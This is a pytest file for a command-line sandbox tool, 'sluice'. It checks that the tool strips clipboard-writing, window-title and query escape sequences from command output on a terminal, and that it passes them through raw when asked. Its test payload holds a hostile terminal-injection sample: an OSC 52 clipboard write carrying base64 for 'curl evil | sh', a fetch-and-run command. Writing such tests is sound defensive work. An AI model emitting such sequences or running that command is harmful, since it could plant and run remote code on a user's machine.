"""What a command's output may do to the terminal it is shown on, end to end: on a real
terminal (a pty made by the test, the CLI its foreground job) ``sluice run`` (direct and
through the broker socket), ``sluice sandbox`` and their ``-t`` sessions drop the OSC 52
clipboard write, the title and the queries while the colours pass; through a pipe the
output is byte for byte; ``--raw-escapes`` (or ``[terminal] raw_escapes``) passes
everything. Under tmux, a terminal that answers, a DA query through sluice types no
answer into the shell. Each test first shows the sequence reaching the terminal raw, so
that none passes for want of one."""

from __future__ import annotations

import json
import os
import shlex
import shutil
import subprocess
import sys

import pytest

from tests.support.harness import wait_for
from tests.support.terminal import OnTerminal

pytestmark = pytest.mark.timeout(120)

# Clipboard, title, cursor-position query and the 8-bit CSI form of DA, among colours.
PAYLOAD = r"A\033]52;c;Y3VybCBldmlsIHwgc2g=\aB\033]2;pwned\a\033[31mC\033[0m\033[6n\233c D\n"
CLIPBOARD = b"\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
COLOURED = b"\x1b[31mC\x1b[0m"

MODES = {
    "sandbox": ["sandbox"],
    "run": ["run"],
    "run --via-broker": ["run", "--via-broker"],
    "sandbox -t": ["sandbox", "-t"],
    "run -t": ["run", "-t"],
}


@pytest.fixture(params=list(MODES))
def cli(request, sluice, tmp_path):
    """``argv(*flags)``: sluice in one mode, printing PAYLOAD; and its environment."""
    env = dict(os.environ, TERM="xterm")
    if MODES[request.param][0] == "run":
        env.update(request.getfixturevalue("module_daemon").env_for_children())

    class Cli:
        name = request.param

        def argv(self, *flags: str) -> list[str]:
            return [*sluice, *MODES[request.param], "--cwd", str(tmp_path), *flags, "--", "printf", PAYLOAD]

    cli = Cli()
    cli.env = env
    return cli


def on_terminal(argv, env) -> bytes:
    with OnTerminal(argv, env=env) as term:
        assert term.wait(60) == 0, bytes(term.output)
        return bytes(term.output)


def test_on_a_terminal_the_clipboard_title_and_queries_are_dropped_and_colours_pass(cli):
    raw = on_terminal(cli.argv("--raw-escapes"), cli.env)
    assert CLIPBOARD in raw and b"\x1b]2;pwned" in raw and b"\x1b[6n" in raw  # the attack reaches a terminal
    assert b"\x9bc" in raw

    shown = on_terminal(cli.argv(), cli.env)
    assert b"\x1b]" not in shown and b"pwned" not in shown and b"Y3Vy" not in shown
    assert b"\x1b[6n" not in shown and b"\x9b" not in shown
    assert b"AB" + COLOURED in shown and b" D" in shown


@pytest.mark.parametrize("mode", [name for name in MODES if "-t" not in name])  # -t needs a terminal
def test_through_a_pipe_the_output_is_byte_for_byte(mode, sluice, tmp_path, request):
    env = dict(os.environ, TERM="xterm")
    if MODES[mode][0] == "run":
        env.update(request.getfixturevalue("module_daemon").env_for_children())
    expected = subprocess.run(["printf", PAYLOAD], stdout=subprocess.PIPE, check=True).stdout
    assert CLIPBOARD in expected
    argv = [*sluice, *MODES[mode], "--cwd", str(tmp_path), "--", "printf", PAYLOAD]
    done = subprocess.run(argv, env=env, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                          stderr=subprocess.PIPE, timeout=60)
    assert done.returncode == 0, done.stderr
    assert done.stdout == expected


def test_raw_escapes_in_the_configuration_passes_everything(sluice, tmp_path):
    home = tmp_path / "home"
    home.mkdir(mode=0o700)
    env = dict(os.environ, SLUICE_HOME=str(home))
    argv = [*sluice, "sandbox", "--cwd", str(tmp_path), "--", "printf", PAYLOAD]
    assert CLIPBOARD not in on_terminal(argv, env)
    (home / "config.toml").write_text("[terminal]\nraw_escapes = true\n")
    assert CLIPBOARD in on_terminal(argv, env)
    (home / "config.toml").write_text('[terminal]\nraw_escapes = "yes"\n')
    with OnTerminal(argv, env=env) as term:
        assert term.wait(60) == 2
        assert b"[terminal] raw_escapes must be true or false" in term.output


# Run inside a tmux pane: the command (sluice) with the pane as its terminal, then a
# question of our own (DSR 5), whose answer comes after any answer to the command's; what
# the terminal typed meanwhile is written to a file. The pane is raw, so nothing of it is
# echoed or held back as a line.
READER = r"""
import json, os, select, subprocess, sys, time, tty
with open(sys.argv[1]) as f:
    argv, env, out = json.load(f)
tty.setraw(0)
subprocess.run(argv, env=env)
os.write(1, b"\x1b[5n")
typed = b""
deadline = time.monotonic() + 30
while b"\x1b[0n" not in typed and time.monotonic() < deadline:
    if select.select([0], [], [], 0.5)[0]:
        typed += os.read(0, 4096)
with open(out + ".part", "wb") as f:
    f.write(typed)
os.rename(out + ".part", out)
"""


@pytest.mark.skipif(shutil.which("tmux") is None, reason="tmux is not installed")
@pytest.mark.parametrize("mode", ["run", "sandbox"])
def test_under_tmux_a_query_types_no_answer_into_the_shell(mode, sluice, tmp_path, request):
    env = dict(os.environ, TERM="screen")
    env.pop("TMUX", None)
    if mode == "run":
        env.update(request.getfixturevalue("module_daemon").env_for_children())

    def typed_after(*flags: str) -> bytes:
        name = "raw" if flags else "guarded"
        out = tmp_path / f"{name}.typed"
        argv = [*sluice, mode, "--cwd", str(tmp_path), *flags, "--", "printf", r"\033[c"]
        reader = tmp_path / "reader.py"
        reader.write_text(READER)
        (tmp_path / f"{name}.json").write_text(json.dumps([argv, env, str(out)]))
        socket = str(tmp_path / f"{name}.tmux")
        command = shlex.join([sys.executable, str(reader), str(tmp_path / f"{name}.json")])
        subprocess.run(["tmux", "-S", socket, "-f", "/dev/null", "new-session", "-d", "-x", "80", "-y", "24",
                        command], env=env, check=True, timeout=30)
        try:
            wait_for(out.exists, 60, "the pane's reader to finish")
        finally:
            subprocess.run(["tmux", "-S", socket, "kill-server"], env=env, stderr=subprocess.DEVNULL, timeout=30)
        typed = out.read_bytes()
        assert typed.endswith(b"\x1b[0n"), typed  # our own question was answered: all before it is here
        return typed

    assert b"\x1b[?1;2c" in typed_after("--raw-escapes")  # raw, tmux answers DA into the shell's input
    assert typed_after() == b"\x1b[0n"
